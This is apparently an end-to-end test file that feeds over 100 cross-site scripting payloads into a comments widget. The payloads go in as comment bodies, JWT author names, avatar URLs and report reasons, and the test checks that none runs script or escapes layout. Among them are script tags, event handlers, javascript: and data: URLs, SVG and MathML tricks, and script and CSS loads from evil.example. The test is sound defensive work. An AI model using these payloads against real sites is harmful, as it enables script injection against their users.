// Security, end to end: a corpus of hostile payloads goes through the real server into <news-comments>
// in Chromium as comment bodies, author names (JWT `name` claim), avatar URLs and report reasons.
// No payload may run script (trap globals stay unset, no dialog opens, even with the page's CSP
// switched off) or draw outside its comment.
// Run: node --test test/e2e/comments-xss.e2e.test.mjs
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, watchProblems } from './support/browser.mjs';
import { signJwt } from './support/jwt.mjs';
import { sleep, startReferenceServer } from './support/reference-server.mjs';

const JWT_SECRET = 'comments-xss-e2e-secret-that-is-long-enough';
const THREAD = 'xss-corpus-thread';

/** Script tags, event handlers, javascript:/data: URLs, SVG and MathML tricks, broken markup, bidi overrides. */
const corpus = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(1)</script>',
  '"><script>window.__xss=1</script>',
  "'><script>window.__xss=1</script>",
  '</textarea><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script src="data:text/javascript,window.__xss=1"></script>',
  '<script type="module">window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=x onerror=window.__xss=1//',
  '<IMG SRC=x OnErRoR=window.__xss=1>',
  '<img src="x" onerror="&#119;indow.__xss=1">',
  '<img """><script>window.__xss=1</script>">',
  '<img src=`x` onerror=window.__xss=1>',
  '<body onload=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1>',
  '<textarea autofocus onfocus=window.__xss=1>',
  '<keygen autofocus onfocus=window.__xss=1>',
  '<video><source onerror="window.__xss=1">',
  '<audio src=x onerror=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<div onmouseover="window.__xss=1" style="position:fixed;inset:0">hover</div>',
  '<a href="#" onclick="window.__xss=1">click</a>',
  '<button onclick=window.__xss=1>Press</button>',
  '<form><button formaction=javascript:window.__xss=1>X</button></form>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<link rel=import href=data:text/html,<script>window.__xss=1</script>>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">overlay</div>',
  '<div style="background:url(javascript:window.__xss=1)">',
  '<div style="width: expression(window.__xss=1)">',
  'javascript:window.__xss=1',
  'JaVaScRiPt:window.__xss=1',
  ' javascript:window.__xss=1',
  'java\tscript:window.__xss=1',
  'java\nscript:window.__xss=1',
  'javascript&colon;window.__xss=1',
  'jav&#x09;ascript:window.__xss=1',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>window.__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=window.__xss=1>',
  'https://example.org/"onmouseover="window.__xss=1',
  'https://example.org/<script>window.__xss=1</script>',
  "https://example.org/'onerror='window.__xss=1",
  'http://example.org/?q=<img src=x onerror=window.__xss=1>',
  'https://example.org/#"><img src=x onerror=window.__xss=1>',
  'https://evil.example/javascript:window.__xss=1',
  '<a href="javascript:window.__xss=1">link</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">data link</a>',
  '<a href=" javascript:window.__xss=1">spaced</a>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>X</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName=onmouseover to=window.__xss=1>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math href="javascript:window.__xss=1">CLICK</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:window.__xss=1">X</maction></math>',
  '<math><mi xlink:href="data:x,<script>window.__xss=1</script>">X</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '<img src=x onerror=window.__xss=1',
  '<<script>script>window.__xss=1<</script>/script>',
  '<div <img src=x onerror=window.__xss=1>>',
  '<p>unclosed <b>bold <i>italic',
  '</div></div></article></li></ol></section><img src=x onerror=window.__xss=1>',
  '</p><h1 style="font-size:200px">HUGE</h1>',
  '<table><tr><td>cell</td></tr>',
  '${window.__xss=1}',
  '{{constructor.constructor("window.__xss=1")()}}',
  '<%= window.__xss=1 %>',
  '#{window.__xss=1}',
  '\u202Egnp.exe',
  '\u202Eevil\u202C after override',
  'left \u202Eright-to-left override never closed',
  '\u2067isolate never closed',
  '\u2066\u2067\u2068 nested isolates',
  '\u200F\u200E marks \u061C',
  '\u202Dforced LTR\u202E then RTL',
  'Z\u0336\u0337\u0338\u0335\u0334\u0336\u0337\u0338\u0335\u0334\u0336\u0337\u0338\u0335\u0334\u0336\u0337\u0338\u0335\u0334\u0336\u0337\u0338\u0335\u0334algo',
  'x'.repeat(600),
  'https://example.org/' + 'a'.repeat(400),
  '\u0000nul byte',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<x onauxclick=window.__xss=1>right click</x>',
  '<dialog open onclose=window.__xss=1><form method=dialog><button>X</button></form></dialog>',
  '<slot name=x onslotchange=window.__xss=1></slot>',
].filter((payload) => !payload.includes('\u0000'));

let server;
let baseUrl;
let browser;

/** An HS256 JWT for a reader, signed with the server's secret, as a publisher's login would mint it. */
const token = (sub, name, avatar) => signJwt(JWT_SECRET, { sub, name, ...(avatar ? { avatar } : {}) });

async function api(path, { method = 'GET', bearer, body } = {}) {
  const response = await fetch(`${baseUrl}/api${path}`, {
    method,
    headers: { 'content-type': 'application/json', ...(bearer ? { authorization: `Bearer ${bearer}` } : {}) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await response.text();
  return { status: response.status, json: text ? JSON.parse(text) : null };
}

before(async () => {
  server = await startReferenceServer({
    label: 'comments-xss',
    build: 'if-missing',
    env: {
      JWT_SECRET,
      RATE_LIMIT_IP_PER_MIN: '100000',
      RATE_LIMIT_IP_WRITES_PER_MIN: '100000',
      RATE_LIMIT_USER_PER_MIN: '100000',
      RATE_LIMIT_VOTER_PER_MIN: '100000',
      RATE_LIMIT_COMMENTS_PER_MIN: '100000',
    },
  });
  baseUrl = server.baseUrl;
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

/**
 * Opens the demo page with its CSP bypassed (so an injected handler WOULD run), trap globals and a
 * dialog watcher installed, signed in as `reader`, and a thread element for the corpus thread.
 */
async function openThread(readerToken) {
  const page = await browser.newPage();
  // Problems are dialogs and uncaught exceptions; console lines and failed requests only explain a thread that did not load.
  const { problems } = watchProblems(page, { dialogs: true, consoleErrors: false, failedRequests: false, httpErrors: false });
  const failed = [];
  page.on('requestfailed', (request) => failed.push(`request failed: ${request.url()} ${request.failure()?.errorText}`));
  await page.setBypassCSP(true);
  await page.setViewport({ width: 900, height: 900 });
  await page.evaluateOnNewDocument((jwt) => {
    window.alert = window.confirm = window.prompt = () => (window.__xssDialog = 1);
    if (jwt) sessionStorage.setItem('news-elements-demo-token', jwt);
  }, readerToken ?? '');
  await page.goto(`${baseUrl}/`, { waitUntil: 'load' });
  await page.evaluate((thread) => {
    const el = document.createElement('news-comments');
    el.setAttribute('thread-id', thread);
    el.setAttribute('loading', 'eager');
    el.setAttribute('page-size', '100');
    el.id = 'corpus';
    document.querySelector('main').prepend(el);
  }, THREAD);
  const console_ = [];
  page.on('console', (message) => console_.push(message.text()));
  try {
    await page.waitForFunction(() => document.querySelector('#corpus')?.shadowRoot?.querySelector('[part="list"]')?.getAttribute('aria-busy') === 'false', {
      timeout: 15_000,
    });
  } catch (error) {
    const state = await page.evaluate(() => [
      Boolean(customElements.get('news-comments')),
      Boolean(document.querySelector('#corpus')),
      document.querySelector('#corpus')?.shadowRoot?.innerHTML.slice(0, 1500),
    ]);
    throw new Error(`the thread did not load: ${error.message}\n${console_.join('\n')}\n${failed.join('\n')}\n${JSON.stringify(state)}`, { cause: error });
  }
  return { page, problems };
}

/** Loads every page of the thread and opens every reply list. */
async function expandAll(page) {
  for (let i = 0; i < 10; i++) {
    const clicked = await page.evaluate(() => {
      const root = document.querySelector('#corpus').shadowRoot;
      const more = root.querySelector('[part="load-more"]:not([aria-disabled="true"])');
      const closed = [...root.querySelectorAll('.link[aria-expanded="false"]')];
      more?.click();
      closed.forEach((button) => button.click());
      return Boolean(more) || closed.length > 0;
    });
    if (!clicked) break;
    await sleep(400);
  }
}

async function assertInert(page, problems, label) {
  const report = await page.evaluate(() => {
    const host = document.querySelector('#corpus');
    const root = host.shadowRoot;
    const allowed = new Set(['ARTICLE', 'HEADER', 'SPAN', 'BDI', 'TIME', 'P', 'A', 'IMG', 'DIV', 'BUTTON', 'FORM', 'LABEL', 'TEXTAREA']);
    const escapes = [];
    const foreign = [];
    for (const article of root.querySelectorAll('article[data-id]')) {
      const box = article.getBoundingClientRect();
      for (const node of article.querySelectorAll('*')) {
        if (!allowed.has(node.tagName)) foreign.push(node.tagName);
        for (const attribute of node.attributes) if (/^on/i.test(attribute.name)) foreign.push(`${node.tagName}[${attribute.name}]`);
        if (node.tagName === 'A' && !/^https?:$/.test(new URL(node.href).protocol)) foreign.push(`a[href=${node.getAttribute('href')}]`);
        if (node.tagName === 'IMG' && !/^https?:$/.test(new URL(node.src).protocol)) foreign.push(`img[src=${node.getAttribute('src')}]`);
        const style = getComputedStyle(node);
        if (style.position === 'fixed' || style.position === 'absolute') escapes.push(`${article.dataset.id}: ${node.tagName} is ${style.position}`);
        const rect = node.getBoundingClientRect();
        if (rect.width === 0 && rect.height === 0) continue;
        if (rect.left < box.left - 1 || rect.right > box.right + 1 || rect.top < box.top - 1 || rect.bottom > box.bottom + 1) {
          // Clipped overflow (overflow: clip on the comment) is fine as long as nothing paints outside.
          const clip = getComputedStyle(article).overflow;
          if (!/clip|hidden/.test(clip)) escapes.push(`${article.dataset.id}: ${node.tagName} outside its comment`);
        }
      }
      if (box.width > host.getBoundingClientRect().width + 1) escapes.push(`${article.dataset.id}: wider than the thread`);
    }
    return {
      xss: window.__xss,
      dialog: window.__xssDialog,
      articles: root.querySelectorAll('article[data-id]').length,
      foreign,
      escapes,
      pageScroll: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      outsideNodes: document.querySelectorAll('body > script:not([src]), body > img, body > iframe, body > svg').length,
    };
  });
  assert.equal(report.xss, undefined, `${label}: a payload ran script`);
  assert.equal(report.dialog, undefined, `${label}: a payload opened a dialog`);
  assert.deepEqual(problems, [], label);
  assert.deepEqual(report.foreign, [], `${label}: markup from a payload`);
  assert.deepEqual(report.escapes, [], `${label}: something escaped its comment`);
  assert.equal(report.pageScroll, 0, `${label}: the page scrolls sideways`);
  assert.equal(report.outsideNodes, 0, `${label}: nodes outside the thread`);
  return report;
}

test('the corpus has at least 100 payloads', () => {
  assert.ok(corpus.length >= 100, `${corpus.length} payloads`);
});

test('payloads as comment bodies, author names and avatar URLs stay inert text inside their comments', { timeout: 240_000 }, async () => {
  let posted = 0;
  let firstTopLevel;
  for (const [i, payload] of corpus.entries()) {
    const name = payload.trim().slice(0, 100) || 'blank';
    // Avatars point at this server (loopback only); the images 404 and the initials show instead.
    const avatar =
      i % 3 === 0
        ? payload
        : i % 3 === 1
          ? `${baseUrl}/avatars/${encodeURIComponent(payload).slice(0, 300)}"onerror="window.__xss=1`
          : `${baseUrl}/avatars/a.png?${payload.slice(0, 200)}`;
    const author = token(`xss-${i}`, name, avatar.slice(0, 2000));
    const body = `${payload}\nhttps://example.org/ok-${i} ${payload}`.slice(0, 2000);
    // Every fourth payload answers a reply, so its author's name also appears as an @mention.
    const parentId = i % 4 === 3 && firstTopLevel ? firstTopLevel : null;
    const result = await api(`/threads/${THREAD}/comments`, { method: 'POST', bearer: author, body: { body, parentId } });
    assert.equal(result.status, 201, `payload ${i}: ${JSON.stringify(result.json)}`);
    posted++;
    if (!parentId && !firstTopLevel) firstTopLevel = result.json.id;
  }
  const reply = await api(`/threads/${THREAD}/comments`, {
    method: 'POST',
    bearer: token('xss-last', corpus[0]),
    body: { body: 'reply to a reply', parentId: firstTopLevel },
  });
  assert.equal(reply.status, 201);
  const { page, problems } = await openThread(token('reader-xss', 'Careful Reader'));
  await expandAll(page);
  const report = await assertInert(page, problems, 'signed in');
  assert.ok(report.articles >= posted, `${report.articles} comments rendered of ${posted}`);
  // Hover and focus everything once: injected handlers would fire now.
  await page.evaluate(() => {
    for (const node of document.querySelector('#corpus').shadowRoot.querySelectorAll('article *')) {
      for (const type of ['mouseover', 'focus', 'auxclick', 'toggle', 'animationstart']) node.dispatchEvent(new Event(type));
    }
  });
  await sleep(300);
  await assertInert(page, problems, 'after hovering');
  await page.close();
});

test('payloads as report reasons are sent as text and nothing runs', { timeout: 240_000 }, async () => {
  const { page, problems } = await openThread(token('reporter', 'Reporter'));
  await expandAll(page);
  const reasons = corpus.map((payload) => payload.trim().slice(0, 500) || 'blank');
  for (const [i, reason] of reasons.entries()) {
    const opened = await page.evaluate((index) => {
      const buttons = [...document.querySelector('#corpus').shadowRoot.querySelectorAll('button[data-action="report"]')];
      const button = buttons[index % buttons.length];
      button?.click();
      return Boolean(button);
    }, i);
    assert.ok(opened, 'a report button');
    const field = await page.waitForSelector('#corpus >>> textarea#f');
    await field.evaluate((textarea, text) => {
      textarea.value = text;
      textarea.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
    }, reason);
    await field.evaluate((textarea) => textarea.form.querySelector('button.primary').click());
    await page
      .waitForFunction(() => !document.querySelector('#corpus').shadowRoot.querySelector('textarea#f'), { timeout: 10_000 })
      .catch(async (error) => {
        const form = await page.evaluate(() => document.querySelector('#corpus').shadowRoot.querySelector('textarea#f')?.form.textContent);
        throw new Error(`report ${i} did not go through: ${error.message}: ${form}`);
      });
  }
  const announced = await page.evaluate(() => document.querySelector('#corpus').shadowRoot.querySelector('[role="status"]').textContent.trim());
  assert.equal(announced, 'Thank you. A moderator will review this comment.');
  await assertInert(page, problems, 'after reporting');
  await page.close();
});
